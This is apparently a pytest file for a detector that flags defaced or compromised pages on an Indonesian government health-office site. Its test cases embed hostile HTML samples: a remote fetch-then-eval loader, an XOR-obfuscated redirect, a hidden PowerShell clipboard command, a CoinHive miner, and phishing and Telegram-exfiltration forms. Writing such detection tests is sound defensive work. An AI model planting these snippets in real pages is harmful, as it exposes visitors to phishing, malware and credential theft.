"""What defacers write in no fixed words, and pages that are not the office's; beside each, what is honest and alike."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scc_wall.domain.site import Page, SiteConfig, VerdictLevel
from scc_wall.monitors.content.hiding import AWAY, hidden_by_scripts, hidden_selectors
from scc_wall.monitors.content.judge import SiteContentJudge
from scc_wall.monitors.content.reading import read
from tests.support.labelled.fourth_frames import cards, elementor, laravel

SITE = SiteConfig("Dinas", "https://dinkes.sumselprov.go.id", 1)
HACKED, SUSPICIOUS, CLEAN = VerdictLevel.HACKED, VerdictLevel.SUSPICIOUS, VerdictLevel.CLEAN


def _level(body: str) -> VerdictLevel:
    return SiteContentJudge().judge(SITE, Page(SITE.url, 200, "text/html", body.encode())).level


def _said(text: str) -> VerdictLevel:
    return _level(laravel("Dinas Kesehatan", f"<p>{text}</p>{cards()}"))


@pytest.mark.parametrize(
    "text",
    [
        "Halo admin, situs ini kami retas. Tidak ada data yang kami hapus.",
        "Maaf min, web ini saya hack, cuma numpang lewat.",
        "Untuk admin: kami masuk ke server ini tanpa izin, mohon perbaiki celahnya. Salam, Pemuda Sungai Cyber.",
    ],
)
def test_a_letter_to_the_admin_is_found_in_the_sites_own_frame(text):
    assert _said(text) is HACKED


@pytest.mark.parametrize(
    "text",
    [
        "Selamat pagi admin, mohon perbaiki data NIK saya.",
        "Kami mohon maaf, situs dinas sempat diretas. Data aman, celah sudah diperbaiki.",
        "Kami berhasil menembus final. Jalan diperbaiki. Bangunan tanpa izin dibongkar. Kepada admin, jaga mutu.",
        "Tim kami masuk ke sistem uji dengan izin tertulis, mencari celah, lalu melapor kepada admin.",
    ],
)
def test_who_speaks_of_an_attack_or_to_the_admin_is_no_defacer(text):
    assert _said(text) is CLEAN


def test_a_manifesto_needs_a_page_without_a_way_into_the_site():
    words = "<h1>Rakyat bangkit! Lawan tirani!</h1><p>#ReformasiDikorupsi</p>"
    dark = "<html><body style='background:#000'>{}</body></html>"
    assert _level(dark.format(words)) is HACKED
    assert _level(dark.format(words + "<a href='/beranda'>Beranda</a>")) is CLEAN
    assert _level(f"<html><body>{words}</body></html>") is CLEAN


def test_a_web_shell_has_fields_and_a_manual_has_none():
    signs = "<p>uname -a: Linux web 5.15.0 | uid=33(www-data) | safe mode: OFF</p>"
    assert _level(f"<html><body>{signs}<input name=cmd></body></html>") is HACKED
    assert _level(f"<html><body>{signs}</body></html>") is CLEAN


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("<h1>This domain is for sale</h1><p>Buy this domain</p>", HACKED),
        ("<p>This domain has expired.</p>", SUSPICIOUS),
        ("<form action='/s.php'><input name=pin placeholder='PIN ATM'></form>", HACKED),
        ("<form action='/login'><input name=pin placeholder='PIN absensi' type=password></form>", CLEAN),
        ("<form action='https://a.web.app/s'><input type=password></form>", HACKED),
        ("<form action='https://masuk.example.co.id/s'><input type=password></form>", SUSPICIOUS),
        ("<script>fetch('https://api.telegram.org/bot1:a/x')</script><input type=password>", HACKED),
        ("<script>fetch('https://api.telegram.org/bot1:a/x')</script><input name=aduan>", CLEAN),
        ("<script>fetch('https://a.cyou/x').then(r=>r.text()).then(eval)</script>", HACKED),
        ("<script>fetch('/api').then(r=>r.text()).then(eval)</script>", CLEAN),
        ("<script>new CoinHive.Anonymous('k').start()</script>", HACKED),
        ("<a href='https://a.top/surat.apk'>Unduh</a>", HACKED),
        ("<a href='/unduh/aplikasi.apk'>Unduh</a>", CLEAN),
        ("<script>navigator.clipboard.writeText('powershell -w hidden iwr')</script>", HACKED),
        ("<script>navigator.clipboard.writeText(location.href)</script>", CLEAN),
        ("<p>Your files have been encrypted. Pay 1 BTC to us.</p>", HACKED),
        ("<script src=\"data:text/javascript,location='https://a-b.top/'\"></script>", HACKED),
        ("<script>document.onclick=function(){window.open('https://a-b.top/')}</script>", HACKED),
    ],
)
def test_what_a_page_does_to_visitors(body, expected):
    assert _level(f"<html><head><title>Dinas Kesehatan</title></head><body>{body}</body></html>") is expected


def test_an_xored_redirect_is_read():
    codes = ",".join(str(ord(sign) ^ 9) for sign in "location.href='https://abc-def.top/x'")
    script = f"<script>var a=[{codes}],s='';for(i of a)s+=String.fromCharCode(i^9);eval(s)</script>"
    assert _level(elementor("Dinas Kesehatan", foot=script)) is HACKED


@pytest.mark.parametrize(
    ("how", "hosts", "expected"),
    [
        ("position:absolute;left:-9999px", ("satu.com", "dua.net"), HACKED),
        ("display:none", ("satu.top", "dua.xyz", "tiga.vip"), HACKED),
        ("display:none", ("sumselupdate.com", "kabarsumatera.com", "beritapagi.com"), CLEAN),
        ("display:none", ("satu.co.id", "dua.co.id", "tiga.id"), CLEAN),
    ],
)
def test_hidden_links_weigh_by_how_and_where_to(how, hosts, expected):
    links = "".join(f'<a href="https://{host}/">{host}</a>' for host in hosts)
    assert _level(elementor("Dinas Kesehatan", foot=f'<div style="{how}">{links}</div>')) is expected


def test_what_scripts_hide_and_what_is_moved_away_is_read():
    assert hidden_by_scripts(["document.getElementById('a').style.display='none'", "$('#b').hide()"]) == [
        "#a{display:none}",
        "#b{display:none}",
    ]
    styles = [".x{left:-999px}.y{display:none}"]
    assert hidden_selectors(styles, away=True) == [".x"]
    reading = read(Page(SITE.url, 200, "text/html", b"<p style='text-indent:-999px'>apa</p>"))
    assert reading.hidden == [(AWAY, "apa")]


def test_slang_needs_company_and_so_do_names_with_digits():
    assert _level(elementor("Kopi Gacor Laris Manis di Pasar Kuliner")) is CLEAN
    assert _level(elementor("Gacor Hari Ini: Daftar")) is HACKED
    assert _level(elementor("SIMPEG88: Daftar dan Login Akun")) is CLEAN
    assert _level(elementor("OMBAK88: Daftar, Login, Link Alternatif")) is HACKED


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.sampled_from([
            "halo admin ", "kami retas ", "tanpa izin ", "<input name=pin>", "uname ", "#tagar ", "<title>а</title>",
            "激安",
            "<script>fromCharCode ^7 11,22,33,44,55,66,77,88,99</script>", "<a href=//a.top/b.apk>", "<iframe srcdoc='",
            "<style>.a{left:-999px}", "ombak88 ", "\x00", "</", "tài xỉu ",
        ]),
        max_size=30,
    )
)  # fmt: skip
def test_whatever_stands_in_a_page_an_alarm_has_its_evidence(parts):
    verdict = SiteContentJudge().judge(SITE, Page(SITE.url, 200, "text/html", "".join(parts).encode()))
    assert verdict.level is CLEAN or verdict.evidence


def test_what_robots_txt_forbids_is_what_was_cleaned_up():
    home = Page(SITE.url, 200, "text/html", laravel("Dinas Kesehatan").encode())

    def judged(rule: str) -> VerdictLevel:
        robots = Page(f"{SITE.url}/robots.txt", 200, "text/plain", f"User-agent: *\n{rule}: /slot-gacor/".encode())
        return SiteContentJudge().judge(SITE, home, None, [robots]).level

    assert judged("Allow") is HACKED
    assert judged("Disallow") is CLEAN


def test_a_sitemap_in_the_letters_of_others_is_no_offices():
    home = Page(SITE.url, 200, "text/html", laravel("Dinas Kesehatan").encode())

    def judged(word: str, count: int) -> VerdictLevel:
        rows = "".join(f"<url><loc>{SITE.url}/{word}-{number}</loc></url>" for number in range(count))
        sitemap = Page(f"{SITE.url}/sitemap.xml", 200, "text/xml", f"<urlset>{rows}</urlset>".encode())
        return SiteContentJudge().judge(SITE, home, None, [sitemap]).level

    assert judged("財布", 20) is HACKED
    assert judged("財布", 1) is CLEAN
    assert judged("berita", 20) is CLEAN


def test_a_quoted_slogan_beside_reports_is_no_spam_but_its_link_is():
    slogan = "<p>Slot gacor hari ini gampang menang pasti maxwin, daftar sekarang.</p>"
    reports = "<p>Polisi menangkap bandar togel dan pelaku judi slot.</p><p>ASN pelaku judi online diberi sanksi.</p>"
    link = "<a href='https://abc-def.top'>slot gacor maxwin</a>"
    assert _level(elementor("Dinas Sosial", slogan + cards() + reports)) is not HACKED
    assert _level(elementor("Dinas Sosial", slogan + cards())) is HACKED
    assert _level(elementor("Dinas Sosial", slogan + cards() + reports + cards() + link)) is HACKED
